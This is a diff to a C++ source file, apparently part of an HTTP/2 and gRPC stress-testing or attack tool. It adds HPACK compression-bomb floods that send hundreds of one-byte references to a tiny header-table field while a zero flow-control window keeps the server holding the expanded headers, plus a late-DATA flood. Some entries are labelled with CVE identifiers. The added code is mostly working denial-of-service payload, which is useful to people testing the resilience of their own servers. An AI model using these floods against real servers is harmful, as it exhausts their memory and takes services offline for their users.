@@ -1,7 +1,12 @@
 #include "floods.h"
 
+#include <string_view>
+#include <utility>
+
 namespace sluice::attack {
 namespace {
+
+using namespace std::string_literals;
 
 constexpr uint8_t kOpen = h2::kEndHeaders, kWhole = h2::kEndHeaders | h2::kEndStream;
 constexpr uint32_t kCancel = 8;
@@ -24,6 +29,39 @@ std::string Call(Wire& wire) {
   std::string headers = wire.Request(kOpen);
   return headers + h2::Data(wire.last_id(), h2::Message(wire.message), h2::kEndStream);
 }
+
+// A request that is a unary call, with `references` to one field of the table, a byte each. `trailers`: they are the
+// request's trailers.
+std::string Bomb(Wire& wire, int references, std::string_view literal, bool trailers = false) {
+  const bool adds = std::exchange(wire.bomb_first, false);
+  const std::string field = adds ? std::string(literal) : std::string();
+  const std::string many(static_cast<size_t>(references), '\xbe');
+  if (wire.first) {  // the request's own fields come into the table before the one that is referred to
+    const std::string headers = wire.Request(kOpen);
+    const std::string rest = h2::Data(wire.last_id(), h2::Message(wire.message), trailers ? 0 : h2::kEndStream);
+    wire.bomb_first = true;
+    return headers + rest + (trailers ? h2::Headers(wire.last_id(), "\x00\x01t\x00"s, kWhole) : "");
+  }
+  wire.next_id += 2;
+  const std::string own = adds ? "\x83\x86\xc1\xc0\xbf\xbe" : "\x83\x86\xc2\xc1\xc0\xbf";
+  const std::string body = h2::Data(wire.last_id(), h2::Message(wire.message), trailers ? 0 : h2::kEndStream);
+  if (!trailers) return h2::Headers(wire.last_id(), own + field + many, kOpen) + body;
+  return h2::Headers(wire.last_id(), own, kOpen) + body + h2::Headers(wire.last_id(), field + many, kWhole);
+}
+// Calls of that kind, a thousand at once, whose answers are let through by no window, so that all that is kept of them
+// stays.
+Flood HeldBomb(const char* name, const char* what, int references, std::string_view literal, bool trailers = false) {
+  return {name,
+          what,
+          [](Wire&) {
+            return h2::Settings({{0x4, 0}});
+          },
+          [=](Wire& wire) { return Repeat(10, [&](int) { return Bomb(wire, references, literal, trailers); }); },
+          true,
+          false,
+          1000};
+}
+constexpr std::string_view kTinyField("\x40\x01\x61\x00", 4), kCrumb("\x60\x01\x61", 3);  // RFC 7541 6.2.1
 
 std::vector<Flood> Make() {
   using W = Wire&;
@@ -49,6 +87,12 @@ std::vector<Flood> Make() {
            return request + h2::Data(w.last_id(), "late");
          });
        }},
+      {"late-data", "DATA of 16 KiB on a stream that the answer has closed",
+       [](W w) {
+         std::string request = w.Request(kOpen);
+         return h2::Settings() + request + h2::WindowUpdate(w.last_id(), 0);
+       },
+       [](W) { return Repeat(16, [](int) { return h2::Data(1, std::string(16384, 'd')); }); }, true, true},
       {"malformed", "CVE-2019-9514: requests without pseudo-headers", Nothing,
        [](W w) {
          return Repeat(1000, [&](int) {
@@ -133,6 +177,11 @@ std::vector<Flood> Make() {
            return h2::Headers(w.last_id(), std::string(16000, '\xbe'), kWhole);
          });
        }},
+      HeldBomb("bomb-held", "CVE-2026-49975: calls of 240 references to a tiny field, held by a window of 0", 240,
+               kTinyField),
+      HeldBomb("bomb-held-90", "the same with 90, below the limits of fields that others have", 90, kTinyField),
+      HeldBomb("bomb-crumbs", "the same with 240 crumbs of a cookie", 240, kCrumb),
+      HeldBomb("bomb-trailers", "the same with 240 references in the trailers", 240, kTinyField, true),
       {"table-size", "header blocks that begin with 1,000 table size updates", Nothing,
        [](W w) {
          return Repeat(16, [&](int) {
